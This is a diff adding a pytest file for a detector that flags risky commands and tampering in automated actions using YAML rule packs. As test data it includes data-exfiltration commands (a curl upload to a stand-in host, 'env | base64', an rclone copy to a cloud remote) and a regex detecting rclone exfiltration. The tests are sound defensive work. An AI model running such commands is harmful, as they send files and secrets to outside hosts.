@@ -1,0 +1,159 @@
+"""RiskyPayload's vocabularies as data (issue 18, item 5): risky commands, public-access changes
+and tampering (CI/CD pipeline definitions, capacity to zero, disguised names) are rule packs in
+config/rules/, each rule with its references, validated on load with the file, line and field
+in the error; a deployment's own packs replace the shipped ones."""
+
+from __future__ import annotations
+
+import pickle
+import re
+from pathlib import Path
+
+import pytest
+
+from missionguard.models.config import DetectionConfig
+from missionguard.models.detectors.payload import (
+    RiskyPayload,
+    command_risk,
+    default_payload_vocabulary,
+    payload_vocabulary_at,
+    repository_of,
+)
+from missionguard.models.features import tokens
+from missionguard.models.judge import Judge
+from missionguard.models.rules import (
+    DEFAULT_PAYLOAD_RULES,
+    DEFAULT_RULES,
+    PAYLOAD_KINDS,
+    PayloadRule,
+    RulePackError,
+    load_rules,
+)
+from missionguard.pipeline.settings import Settings
+
+COMMANDS, PUBLIC, TAMPERING = DEFAULT_PAYLOAD_RULES
+UPLOAD = "curl -T - https://x.example"
+
+
+@pytest.mark.parametrize("pack", DEFAULT_PAYLOAD_RULES, ids=lambda p: p.name)
+def test_every_shipped_pack_loads_and_every_rule_cites_a_reference(pack: Path) -> None:
+    rules = load_rules(pack, PayloadRule)
+    assert rules
+    for rule in rules:
+        assert rule.references, rule.id
+        assert all(ref.startswith("https://") for ref in rule.references), rule.id
+
+
+def test_the_shipped_packs_cover_every_kind_and_no_simulator_scheme() -> None:
+    rules = [r for pack in DEFAULT_PAYLOAD_RULES for r in load_rules(pack, PayloadRule)]
+    assert {r.kind for r in rules} == set(PAYLOAD_KINDS)
+    # Issue 18, item 5: the simulator's invented repository schemes are no vocabulary.
+    text = "\n".join(p.read_text() for p in DEFAULT_PAYLOAD_RULES)
+    assert not re.search(r"^\s*- '[^']*(github|gitlab|ci)://", text, re.MULTILINE)
+    assert repository_of("github://acme/search/contents/a.py") is None
+    assert repository_of("ci://acme/search/pipelines") is None
+    assert repository_of("repo:acme/search/contents/a.py") == "acme/search"
+    assert repository_of("repo:octo-org/octo-repo:ref:refs/heads/main") == "octo-org/octo-repo"
+
+
+def test_the_configuration_names_the_shipped_packs() -> None:
+    assert DetectionConfig().payload_rules == DEFAULT_PAYLOAD_RULES
+    # detection.yaml names them relative to config/; the settings resolve them there.
+    assert Settings().behaviour.payload_rules == DEFAULT_PAYLOAD_RULES
+    assert all(p.parent == DEFAULT_RULES for p in DEFAULT_PAYLOAD_RULES)
+
+
+def test_detection_yaml_paths_are_relative_to_the_file(tmp_path: Path) -> None:
+    config = tmp_path / "detection.yaml"
+    config.write_text("payload_rules:\n  - rules/mine.yaml\n  - /abs/theirs.yaml\n")
+    loaded = DetectionConfig.from_yaml(config)
+    assert loaded.payload_rules == (tmp_path / "rules" / "mine.yaml", Path("/abs/theirs.yaml"))
+
+
+_HEAD = "rules:\n  - id: a\n    title: t\n"
+
+
+@pytest.mark.parametrize(
+    ("body", "where"),
+    [
+        (_HEAD + "    kind: egress\n    patterns: ['curl']\n", ":2: rules[0].references"),
+        (_HEAD + "    kind: egress\n    patterns:\n      - 'curl'\n      - '(unclosed'\n"
+         "    references: [u]\n", ":7: rules[0].patterns[1]: Value error, not a valid regular"),
+        (_HEAD + "    kind: egress\n    patterns: ['curl']\n    references: [u]\n    colour: red\n",
+         ":7: rules[0].colour: Extra inputs are not permitted"),
+        (_HEAD + "    kind: egress\n    keys: [cmd]\n    references: [u]\n",
+         ":2: rules[0].patterns: Value error, an egress rule needs `patterns`"),
+        (_HEAD + "    kind: egress\n    patterns: [x]\n    keys: [cmd]\n    references: [u]\n",
+         ":6: rules[0].keys: Value error, an egress rule does not use `keys`"),
+        (_HEAD + "    kind: interactive-access\n    explained_by: [debug]\n    references: [u]\n",
+         "rules[0].resources: Value error, an interactive-access rule needs `actions` or"),
+        (_HEAD + "    kind: repository\n    resources: ['^repo:']\n    references: [u]\n",
+         ":5: rules[0].resources: Value error, resources[0] needs a group"),
+        (_HEAD + "    kind: lookalike\n    homoglyphs: {'0': oo}\n    references: [u]\n",
+         ":5: rules[0].homoglyphs.0: Value error, expected one character"),
+        (_HEAD + "    kind: exfil\n    patterns: [x]\n    references: [u]\n", ":4: rules[0].kind"),
+    ],
+    ids=["missing-reference", "bad-regex", "unknown-field", "missing-field", "field-not-read",
+         "one-of-two", "repository-without-group", "homoglyph-not-a-character", "unknown-kind"],
+)  # fmt: skip
+def test_a_broken_pack_names_file_line_and_field(tmp_path: Path, body: str, where: str) -> None:
+    pack = tmp_path / "commands.yaml"
+    pack.write_text(body)
+    with pytest.raises(RulePackError) as raised:
+        load_rules(pack, PayloadRule)
+    message = str(raised.value)
+    assert message.startswith(str(pack)) and where in message, message
+    # The judge refuses such a pack when it is built, not on the first decision.
+    with pytest.raises(RulePackError):
+        Judge(detection=DetectionConfig(payload_rules=(pack,)))
+
+
+def _without(pack: Path, kind: str, tmp_path: Path) -> Path:
+    """A copy of ``pack`` without its rules of ``kind`` (a deployment's own pack)."""
+    kept = [r for r in load_rules(pack, PayloadRule) if r.kind != kind]
+    lines = ["rules:"]
+    for rule in kept:
+        lines.append(f"  - {rule.model_dump_json(exclude_defaults=True)}")  # JSON is YAML
+    out = tmp_path / f"no-{kind}.yaml"
+    out.write_text("\n".join(lines) + "\n")
+    return out
+
+
+def test_a_deployments_pack_replaces_the_shipped_one(tmp_path: Path) -> None:
+    assert command_risk(UPLOAD) == "egress"
+    own = _without(COMMANDS, "egress", tmp_path)
+    packs = (own, PUBLIC, TAMPERING)
+    assert command_risk(UPLOAD, vocabulary=payload_vocabulary_at(tuple(map(str, packs)))) is None
+    x = {"action": "k8s:create", "resource": "k8s://prod/namespaces/web/pods/web-1/exec",
+         "texts": (("command", UPLOAD),), "purpose_tokens": tokens("Restart pods")}  # fmt: skip
+    shipped = Judge().payload.explain_one(x)
+    assert shipped["command"][0] == 0.9 and shipped["interactive_access"][0] > 0.8
+    judge = Judge(detection=DetectionConfig(payload_rules=packs))
+    found = judge.payload.explain_one(x)
+    assert "command" not in found and found["interactive_access"][0] == 0.8  # the session only
+    # The other kinds still come from the shipped packs the deployment listed.
+    dump = {**x, "texts": (("command", "env | base64"),)}
+    assert judge.payload.explain_one(dump)["command"][0] == 0.85
+
+
+def test_a_pack_adds_to_its_kind(tmp_path: Path) -> None:
+    extra = tmp_path / "extra.yaml"
+    extra.write_text(
+        "rules:\n  - id: rclone-copy\n    title: copies data to a cloud remote with rclone\n"
+        "    kind: egress\n    patterns: ['\\brclone\\s+(copy|sync)\\b.*\\s[\\w.-]+:']\n"
+        "    references: [https://attack.mitre.org/software/S1040/]\n"
+    )
+    det = RiskyPayload(packs=(*DEFAULT_PAYLOAD_RULES, extra))
+    x = {"action": "batch:submit", "texts": (("command", "rclone copy /data drop:bucket"),)}
+    assert det.score_one(x) == 0.9
+    assert RiskyPayload().score_one(x) == 0.0
+    assert det.score_one({"action": "x:y", "texts": (("command", UPLOAD),)}) == 0.9  # shipped
+
+
+def test_the_detector_with_packs_clones_and_pickles() -> None:
+    det = RiskyPayload(packs=DEFAULT_PAYLOAD_RULES)
+    assert det.vocabulary is default_payload_vocabulary()  # loaded once
+    assert det.clone()._get_params() == det._get_params()
+    again = pickle.loads(pickle.dumps(det))
+    x = {"action": "x:y", "texts": (("command", UPLOAD),)}
+    assert again.score_one(x) == det.score_one(x) == 0.9
